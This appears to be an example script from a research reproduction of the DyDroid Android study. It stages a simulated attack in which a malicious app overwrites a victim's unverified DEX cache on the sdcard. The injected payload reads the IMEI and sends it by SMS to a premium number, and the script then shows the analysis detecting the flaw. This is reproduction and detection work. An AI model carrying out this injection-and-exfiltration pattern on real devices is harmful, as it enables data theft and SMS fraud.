@@ -1,0 +1,159 @@
+"""Exploiting risky DCL: the Table IX code-injection vulnerability, live.
+
+A victim app caches its loadable bytecode on external storage
+(``/mnt/sdcard/im_sdk/jar/...``, the com.longtukorea.snmg pattern).  Before
+Android 4.4 any installed app can write there -- so a malicious app with no
+permissions beyond sdcard write can *replace the file*, and the victim will
+execute attacker code with all of the victim's permissions.
+
+This script stages the attack end to end on one simulated device, then
+shows DyDroid's vulnerability analysis flagging the same app from its DCL
+events alone.
+
+Run:  python examples/code_injection_attack.py
+"""
+
+from repro.android.apk import Apk
+from repro.android.builders import MethodBuilder, class_builder
+from repro.android.dex import DexFile
+from repro.android.manifest import (
+    INTERNET,
+    WRITE_EXTERNAL_STORAGE,
+    AndroidManifest,
+    Component,
+    ComponentKind,
+)
+from repro.corpus.behaviors import emit_asset_to_file, emit_dex_load
+from repro.runtime.device import Device
+from repro.runtime.instrumentation import Instrumentation
+from repro.runtime.objects import VMObject
+from repro.runtime.vm import DalvikVM
+from repro.static_analysis.decompiler import Decompiler
+from repro.static_analysis.vulnerability import RiskyLoadCategory, classify_loads
+from repro.dynamic.dcl_logger import DclLogger
+
+VICTIM_PACKAGE = "com.longtu.snmg"
+CACHE_PATH = "/mnt/sdcard/im_sdk/jar/yayavoice_for_assets.jar"
+
+
+def benign_plugin() -> DexFile:
+    cls = class_builder("com.yaya.voice.Plugin")
+    init = MethodBuilder("<init>", cls.name, arity=1)
+    init.ret_void()
+    cls.add_method(init.build())
+    run = MethodBuilder("run", cls.name, arity=1)
+    run.call_void("android.util.Log", "d", run.new_string("voice"), run.new_string("voice sdk ready"))
+    run.ret_void()
+    cls.add_method(run.build())
+    return DexFile(classes=[cls])
+
+
+def attacker_payload() -> DexFile:
+    """Same entry class/method, hostile body, running AS THE VICTIM."""
+    cls = class_builder("com.yaya.voice.Plugin")
+    init = MethodBuilder("<init>", cls.name, arity=1)
+    init.ret_void()
+    cls.add_method(init.build())
+    run = MethodBuilder("run", cls.name, arity=1)
+    tm = run.call_virtual(
+        "android.content.Context", "getSystemService", run.arg(0), run.new_string("phone")
+    )
+    imei = run.call_virtual("android.telephony.TelephonyManager", "getDeviceId", tm)
+    sms = run.call_static("android.telephony.SmsManager", "getDefault")
+    null = run.new_null()
+    run.call_void(
+        "android.telephony.SmsManager", "sendTextMessage",
+        sms, run.new_string("+7900PREMIUM"), null, imei, null, null,
+    )
+    run.ret_void()
+    cls.add_method(run.build())
+    return DexFile(classes=[cls])
+
+
+def build_victim() -> Apk:
+    activity = "{}.MainActivity".format(VICTIM_PACKAGE)
+    cls = class_builder(activity, superclass="android.app.Activity")
+
+    install = MethodBuilder("onCreate", activity, arity=1)
+    # First run: drop the bundled plugin onto the sdcard cache...
+    file_obj = install.new_instance_of("java.io.File", install.new_string(CACHE_PATH))
+    exists = install.call_virtual("java.io.File", "exists", file_obj)
+    install.if_nez(exists, "cached")
+    emit_asset_to_file(install, "voice_sdk.bin", CACHE_PATH)
+    install.label("cached")
+    # ...then (every run) load whatever sits there. No integrity check.
+    emit_dex_load(
+        install,
+        CACHE_PATH,
+        "/data/data/{}/cache/odex".format(VICTIM_PACKAGE),
+        entry_class="com.yaya.voice.Plugin",
+    )
+    install.ret_void()
+    cls.add_method(install.build())
+
+    manifest = AndroidManifest(
+        package=VICTIM_PACKAGE,
+        min_sdk=14,  # supports pre-KitKat: sdcard is world-writable
+        permissions={INTERNET, WRITE_EXTERNAL_STORAGE},
+        components=[Component(ComponentKind.ACTIVITY, activity, True)],
+    )
+    return Apk.build(
+        manifest,
+        dex_files=[DexFile(classes=[cls])],
+        assets={"assets/voice_sdk.bin": benign_plugin().to_bytes()},
+    )
+
+
+def main() -> None:
+    device = Device()
+    victim = build_victim()
+
+    print("== 1. Victim runs normally: caches and loads its voice plugin ==")
+    instrumentation = Instrumentation()
+    logger = DclLogger().attach(instrumentation)
+    vm = DalvikVM(device, instrumentation)
+    vm.install_app(victim)
+    activity = "{}.MainActivity".format(VICTIM_PACKAGE)
+    vm.run_entry(activity, "onCreate", [VMObject(activity)])
+    print("   logcat:", device.logcat)
+    assert device.logcat == ["voice: voice sdk ready"]
+
+    print()
+    print("== 2. A malicious app overwrites the world-writable cache ==")
+    record = device.vfs.stat(CACHE_PATH)
+    print("   {} world_writable={}".format(CACHE_PATH, record.world_writable))
+    # the attacker app only needs sdcard write access (pre-4.4: implicit).
+    device.vfs.write(
+        CACHE_PATH, attacker_payload().to_bytes(), owner="com.free.wallpaper.attacker"
+    )
+    print("   file replaced by com.free.wallpaper.attacker")
+
+    print()
+    print("== 3. Victim restarts and loads the attacker's code ==")
+    device.logcat.clear()
+    vm2 = DalvikVM(device, Instrumentation())
+    vm2.install_app(victim)
+    vm2.run_entry(activity, "onCreate", [VMObject(activity)])
+    print("   SMS sent BY THE VICTIM APP:", device.sms_sent)
+    assert device.sms_sent and device.sms_sent[0][0] == "+7900PREMIUM"
+    print("   -> attacker code executed with the victim's identity and permissions")
+
+    print()
+    print("== 4. DyDroid's vulnerability analysis flags exactly this app ==")
+    program = Decompiler().decompile(victim)
+    findings = classify_loads(
+        VICTIM_PACKAGE,
+        victim.manifest,
+        dex_events=logger.dex_events,
+        program=program,
+    )
+    for finding in findings:
+        print("   {} [{}] loads {}".format(finding.package, finding.category.value, finding.path))
+    assert findings[0].category is RiskyLoadCategory.EXTERNAL_STORAGE
+    print()
+    print("Table IX row reproduced: DEX loaded from external storage on a")
+    print("pre-4.4 device, with no integrity verification by the developer.")
+
+
+if __name__ == "__main__":
+    main()
